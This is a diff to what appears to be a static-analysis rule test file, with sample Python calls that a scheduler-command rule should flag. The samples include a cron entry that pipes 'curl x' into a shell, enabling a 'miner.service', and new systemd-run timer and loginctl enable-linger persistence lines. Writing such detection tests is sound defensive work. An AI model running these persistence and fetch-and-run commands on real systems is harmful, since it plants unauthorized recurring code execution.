@@ -412,6 +412,11 @@ subprocess.run(["crontab", "-"], input=b"* * * * * curl x | sh")
 subprocess.run(["/usr/bin/systemctl", "--user", "enable", "miner.service"])
 # ruleid: scheduler-command, os-exec
 os.execv("/usr/bin/at", ["at", "now", "+", "1", "minute"])
+# a transient unit, and a user's services kept after logout
+# ruleid: scheduler-command, subprocess-call
+subprocess.run(["/usr/bin/systemd-run", "--user", "--on-calendar=*:0/5", "python3", "job.py"])
+# ruleid: scheduler-command, subprocess-call
+subprocess.run(["/usr/bin/loginctl", "enable-linger", "agent"])
 # listing the crontab only reads it
 # ok: scheduler-command
 # ruleid: subprocess-call, process-partial-path, process-partial-path-list
